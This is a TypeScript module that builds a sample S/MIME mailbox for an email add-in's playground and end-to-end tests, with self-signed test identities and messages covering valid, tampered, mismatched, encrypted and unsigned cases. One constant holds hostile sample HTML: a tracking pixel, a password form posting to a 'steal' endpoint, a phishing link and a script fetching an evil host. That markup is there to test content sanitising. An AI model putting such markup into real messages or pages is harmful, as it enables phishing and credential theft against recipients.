/**
 * Build-time sample mailbox for the playground, made with the core and fresh self-signed
 * TEST identities: a demo identity for the user (PKCS#12), correspondents alice and mallory,
 * and one message per verdict worth seeing. Runs in Node (see scripts/dev-server/samples.mjs).
 */
import { toDer } from '../../core/asn1';
import { concatBytes, utf8Encode } from '../../core/bytes';
import {
  buildMessage,
  createSelfSignedTestIdentity,
  encryptMessage,
  privateKeyFromPkcs8,
  signMessage,
  toPem,
  writePkcs12,
  type MessageInput,
} from '../../core/index';
import type { TestIdentity } from '../../core/keystore/generate';

export const DEMO_ADDRESS = 'demo@playground.test';
export const ALICE_ADDRESS = 'alice@playground.test';
export const MALLORY_ADDRESS = 'mallory@playground.test';
export const DEMO_PKCS12_PASSWORD = 'demo';

export interface SampleMessage {
  id: string;
  /** What the playground's reader should see (the e2e tests assert it). */
  expect: { status: string; notification: 'informationalMessage' | 'errorMessage' | 'none' };
  eml: Uint8Array;
}

export interface SampleSet {
  /** Served with the add-in (dist/web). */
  public: Record<string, Uint8Array>;
  /** Keys for tests only; never shipped. */
  private: Record<string, Uint8Array>;
  messages: SampleMessage[];
}

const pem = (label: string, der: Uint8Array) => utf8Encode(toPem(label, der));

async function signer(identity: TestIdentity) {
  return { certificate: identity.certificate, chain: [], key: await privateKeyFromPkcs8(identity.pkcs8) };
}

function tamper(signed: Uint8Array): Uint8Array {
  const text = new TextDecoder('latin1').decode(signed);
  const at = text.indexOf('Meet at noon');
  if (at < 0) throw new Error('sample text not found');
  const out = signed.slice();
  out.set(utf8Encode('Meet at nine'), at);
  return out;
}

const REMOTE_HTML =
  '<p>Quarterly numbers attached.</p>' +
  '<img src="https://tracker.example/pixel.png?u=demo" alt="pixel">' +
  '<div style="background:url(https://tracker.example/bg.png)">styled</div>' +
  '<form action="https://collect.example/steal" method="post"><input name="pw"><button>Verify account</button></form>' +
  '<a href="https://phish.example/login">Open the report</a>' +
  '<script>fetch("https://evil.example/")</script>';

export async function makeSamples(now = new Date()): Promise<SampleSet> {
  const [demo, alice, mallory] = await Promise.all([
    createSelfSignedTestIdentity({ email: DEMO_ADDRESS, commonName: 'Demo User', algorithm: 'RSA-2048', now }),
    createSelfSignedTestIdentity({ email: ALICE_ADDRESS, commonName: 'Alice Example', algorithm: 'RSA-2048', now }),
    createSelfSignedTestIdentity({ email: MALLORY_ADDRESS, commonName: 'Mallory Example', algorithm: 'P-256', now }),
  ]);
  const base = (subject: string, extra: Partial<MessageInput> = {}): Uint8Array =>
    buildMessage({ from: `Alice Example <${ALICE_ADDRESS}>`, to: [`Demo User <${DEMO_ADDRESS}>`], subject, date: now, ...extra });

  const validSigned = await signMessage(base('Signed: lunch plans', { text: 'Meet at noon by the fountain.\r\n— Alice' }), await signer(alice));
  const tampered = tamper(await signMessage(base('Tampered: lunch plans', { text: 'Meet at noon by the fountain.\r\n— Alice' }), await signer(alice)));
  const mismatch = await signMessage(base('Signer is not the sender', { text: 'This claims to be from Alice but Mallory signed it.' }), await signer(mallory));
  const encrypted = await encryptMessage(
    await signMessage(base('Encrypted: salary review', { text: 'Only you can read this.', html: '<p>Only <b>you</b> can read this.</p>' }), await signer(alice)),
    [demo.certificate, alice.certificate],
  );
  const remote = await encryptMessage(
    await signMessage(base('Encrypted with remote content', { text: 'Quarterly numbers attached.', html: REMOTE_HTML }), await signer(alice)),
    [demo.certificate],
  );
  const unsigned = base('Unsigned: newsletter', { text: 'A plain message without S/MIME.' });
  // Header protection as older clients send it (RFC 8551 §3.1): the real Subject is signed inside.
  const inner = base('Signed subject: board meeting moved to 3 pm', { text: 'The outer subject is not protected; this one is.' });
  const outer = concatBytes(
    utf8Encode(`From: Alice Example <${ALICE_ADDRESS}>\r\nTo: Demo User <${DEMO_ADDRESS}>\r\nSubject: Wrapped: see signed headers\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n`),
    inner,
  );
  const wrapped = await signMessage(outer, await signer(alice));

  const anchors = [demo, alice, mallory].map((i) => toPem('CERTIFICATE', toDer(i.certificate))).join('');
  return {
    public: {
      'anchors.pem': utf8Encode(anchors),
      'playground/demo-identity.p12': await writePkcs12({ pkcs8: demo.pkcs8, certificate: demo.certificate, friendlyName: 'Demo User' }, DEMO_PKCS12_PASSWORD, { iterations: 100_000 }),
      'playground/alice.crt': pem('CERTIFICATE', toDer(alice.certificate)),
    },
    private: {
      'demo.crt': pem('CERTIFICATE', toDer(demo.certificate)),
      'demo.key': pem('PRIVATE KEY', demo.pkcs8),
      'alice.crt': pem('CERTIFICATE', toDer(alice.certificate)),
      'alice.key': pem('PRIVATE KEY', alice.pkcs8),
    },
    messages: [
      { id: 'sample-valid-signed', expect: { status: 'valid', notification: 'informationalMessage' }, eml: validSigned },
      { id: 'sample-tampered', expect: { status: 'invalid', notification: 'errorMessage' }, eml: tampered },
      { id: 'sample-signer-mismatch', expect: { status: 'sender-mismatch', notification: 'errorMessage' }, eml: mismatch },
      { id: 'sample-encrypted', expect: { status: 'valid', notification: 'informationalMessage' }, eml: encrypted },
      { id: 'sample-remote-content', expect: { status: 'valid', notification: 'informationalMessage' }, eml: remote },
      { id: 'sample-unsigned', expect: { status: 'not-smime', notification: 'none' }, eml: unsigned },
      { id: 'sample-wrapped-headers', expect: { status: 'valid', notification: 'informationalMessage' }, eml: wrapped },
    ],
  };
}
